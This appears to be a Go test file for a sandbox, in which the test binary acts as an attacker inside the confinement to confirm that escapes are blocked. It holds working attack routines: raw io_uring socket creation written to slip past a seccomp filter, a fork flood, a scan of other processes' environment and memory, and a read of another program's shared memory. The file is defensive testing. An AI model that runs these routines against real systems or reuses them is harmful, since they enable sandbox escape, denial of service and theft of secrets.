package sandbox

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The test binary doubles as the attacker: copied into a workdir and run
// by a confined command as `./attacker MODE ARGS...`, it does what a shell
// cannot (raw io_uring, a fork flood, reading other processes' memory).
const attackArg = "harness9-attack"

func TestMain(m *testing.M) {
	if len(os.Args) > 2 && os.Args[1] == attackArg {
		os.Exit(attack(os.Args[2], os.Args[3:]))
	}
	// As harness9 does at start: the tests run the sandbox from a process
	// that other processes of the user cannot read.
	if err := ProtectSelf(); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	os.Exit(m.Run())
}

// installAttacker copies the test binary into dir as "attacker" and
// returns the command line prefix that runs it.
func installAttacker(t *testing.T, dir string) string {
	t.Helper()
	src, err := os.Open("/proc/self/exe")
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	dst, err := os.OpenFile(filepath.Join(dir, "attacker"), os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(dst, src); err != nil {
		t.Fatal(err)
	}
	dst.Close()
	return "./attacker " + attackArg + " "
}

func attack(mode string, args []string) int {
	switch mode {
	case "uring-udp": // ADDR: a UDP socket from io_uring, then a datagram
		return uringUDP(args[0])
	case "uring-unix": // PATH: an AF_UNIX socket from io_uring, then connect
		return uringUnix(args[0])
	case "uring-xattr": // FILE: set user.pwned through io_uring
		return uringXattr(args[0])
	case "flood": // N: start N sleeping processes, report how many started
		n, _ := strconv.Atoi(args[0])
		return flood(n)
	case "scan": // YRANAC (reversed, so no command line holds it): search every
		// visible process's environment and memory for CANARY
		return scan(reverse(args[0]))
	case "shm": // ID: read a System V shared memory segment of another program
		id, _ := strconv.Atoi(args[0])
		return shmRead(id)
	case "protected": // sleep as a process that called ProtectSelf
		if err := ProtectSelf(); err != nil {
			fmt.Println(err)
			return 1
		}
		fmt.Println("ready")
		select {}
	}
	fmt.Println("unknown attack", mode)
	return 2
}

func shmRead(id int) int {
	mem, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		fmt.Println("shmat:", err)
		return 1
	}
	fmt.Printf("read %q\n", mem[:32])
	return 0
}

// A minimal io_uring client: setup, the rings mapped, one SQE submitted
// and its CQE read.

type uringParams struct {
	sqEntries, cqEntries, flags, sqThreadCPU, sqThreadIdle, features, wqFd uint32
	resv                                                                   [3]uint32
	sqOff                                                                  struct {
		head, tail, ringMask, ringEntries, flags, dropped, array, resv1 uint32
		userAddr                                                        uint64
	}
	cqOff struct {
		head, tail, ringMask, ringEntries, overflow, cqes, flags, resv1 uint32
		userAddr                                                        uint64
	}
}

type sqe struct {
	opcode, flags uint8
	ioprio        uint16
	fd            int32
	off, addr     uint64
	len, rwFlags  uint32
	userData      uint64
	pad           [3]uint64
}

const (
	sysIOUringSetup = 425
	sysIOUringEnter = 426
	opFsetxattr     = 41
	opSocket        = 45
	offSQRing       = 0
	offCQRing       = 0x8000000
	offSQEs         = 0x10000000
	enterGetEvents  = 1
)

// uringDo runs one operation through a new ring and returns its result.
func uringDo(e sqe) (int32, error) {
	var p uringParams
	fd, _, errno := syscall.Syscall(sysIOUringSetup, 4, uintptr(unsafe.Pointer(&p)), 0)
	if errno != 0 {
		return 0, fmt.Errorf("io_uring_setup: %w", errno)
	}
	defer syscall.Close(int(fd))
	sq, err := syscall.Mmap(int(fd), offSQRing, int(p.sqOff.array+p.sqEntries*4), syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED)
	if err != nil {
		return 0, fmt.Errorf("mmap sq: %w", err)
	}
	cq, err := syscall.Mmap(int(fd), offCQRing, int(p.cqOff.cqes+p.cqEntries*16), syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED)
	if err != nil {
		return 0, fmt.Errorf("mmap cq: %w", err)
	}
	sqes, err := syscall.Mmap(int(fd), offSQEs, int(p.sqEntries*64), syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED)
	if err != nil {
		return 0, fmt.Errorf("mmap sqes: %w", err)
	}
	u32 := func(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }
	tail := *u32(sq, p.sqOff.tail)
	idx := tail & *u32(sq, p.sqOff.ringMask)
	*(*sqe)(unsafe.Pointer(&sqes[idx*64])) = e
	*u32(sq, p.sqOff.array+idx*4) = idx
	*u32(sq, p.sqOff.tail) = tail + 1
	if _, _, errno := syscall.Syscall6(sysIOUringEnter, fd, 1, 1, enterGetEvents, 0, 0); errno != 0 {
		return 0, fmt.Errorf("io_uring_enter: %w", errno)
	}
	head := *u32(cq, p.cqOff.head) & *u32(cq, p.cqOff.ringMask)
	res := *(*int32)(unsafe.Pointer(&cq[p.cqOff.cqes+head*16+8]))
	return res, nil
}

// uringSocket creates a socket through io_uring (IORING_OP_SOCKET),
// which the seccomp filter on socket(2) does not see.
func uringSocket(domain, typ int) (int, error) {
	res, err := uringDo(sqe{opcode: opSocket, fd: int32(domain), off: uint64(typ)})
	if err != nil {
		return -1, err
	}
	if res < 0 {
		return -1, fmt.Errorf("IORING_OP_SOCKET: %w", syscall.Errno(-res))
	}
	return int(res), nil
}

func uringUDP(addr string) int {
	ua, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		fmt.Println(err)
		return 1
	}
	domain, sa := syscall.AF_INET, syscall.Sockaddr(&syscall.SockaddrInet4{Port: ua.Port, Addr: [4]byte(ua.IP.To4())})
	if ua.IP.To4() == nil {
		domain, sa = syscall.AF_INET6, &syscall.SockaddrInet6{Port: ua.Port, Addr: [16]byte(ua.IP.To16())}
	}
	fd, err := uringSocket(domain, syscall.SOCK_DGRAM)
	if err != nil {
		fmt.Println(err)
		return 1
	}
	if err := syscall.Sendto(fd, []byte("uring-leak"), 0, sa); err != nil {
		fmt.Println("sendto:", err)
		return 1
	}
	fmt.Println("sent")
	return 0
}

func uringUnix(path string) int {
	fd, err := uringSocket(syscall.AF_UNIX, syscall.SOCK_STREAM)
	if err != nil {
		fmt.Println(err)
		return 1
	}
	if err := syscall.Connect(fd, &syscall.SockaddrUnix{Name: path}); err != nil {
		fmt.Println("connect:", err)
		return 1
	}
	fmt.Println("connected")
	return 0
}

func uringXattr(file string) int {
	fd, err := syscall.Open(file, syscall.O_RDONLY, 0)
	if err != nil {
		fmt.Println(err)
		return 1
	}
	name, value := []byte("user.pwned\x00"), []byte("1")
	res, err := uringDo(sqe{opcode: opFsetxattr, fd: int32(fd), addr: uint64(uintptr(unsafe.Pointer(&name[0]))),
		len: uint32(len(value)), off: uint64(uintptr(unsafe.Pointer(&value[0])))})
	if err != nil {
		fmt.Println(err)
		return 1
	}
	if res < 0 {
		fmt.Println("IORING_OP_FSETXATTR:", syscall.Errno(-res))
		return 1
	}
	fmt.Println("xattr set")
	return 0
}

// flood starts n processes that sleep, as fast as it can, and reports how
// many it started before the first failure.
func flood(n int) int {
	sleep := "/bin/sleep"
	if _, err := os.Stat(sleep); err != nil {
		sleep = "/usr/bin/sleep"
	}
	started := 0
	var firstErr error
	for range n {
		if _, err := syscall.ForkExec(sleep, []string{"sleep", "6061"}, &syscall.ProcAttr{}); err != nil {
			firstErr = err
			break
		}
		started++
	}
	fmt.Printf("started %d of %d (%v)\n", started, n, firstErr)
	return 0
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// scan looks for canary in every /proc/PID/environ, cmdline and in the
// readable memory of every process it can see, and prints where.
func scan(canary string) int {
	entries, _ := os.ReadDir("/proc")
	self, _ := os.Readlink("/proc/self") // this process's pid as this /proc numbers it
	seen := 0
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || e.Name() == self {
			continue
		}
		seen++
		for _, f := range []string{"environ", "cmdline"} {
			if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, f)); err == nil && bytes.Contains(b, []byte(canary)) {
				fmt.Printf("FOUND in /proc/%d/%s\n", pid, f)
			}
		}
		if scanMem(pid, canary) {
			fmt.Printf("FOUND in /proc/%d/mem\n", pid)
		}
	}
	fmt.Printf("scanned %d processes\n", seen)
	return 0
}

func scanMem(pid int, canary string) bool {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return false
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false
	}
	defer mem.Close()
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		a, err1 := strconv.ParseUint(lo, 16, 64)
		b, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || b-a > 256<<20 {
			continue
		}
		buf := make([]byte, b-a)
		n, _ := mem.ReadAt(buf, int64(a))
		if bytes.Contains(buf[:n], []byte(canary)) {
			return true
		}
	}
	return false
}
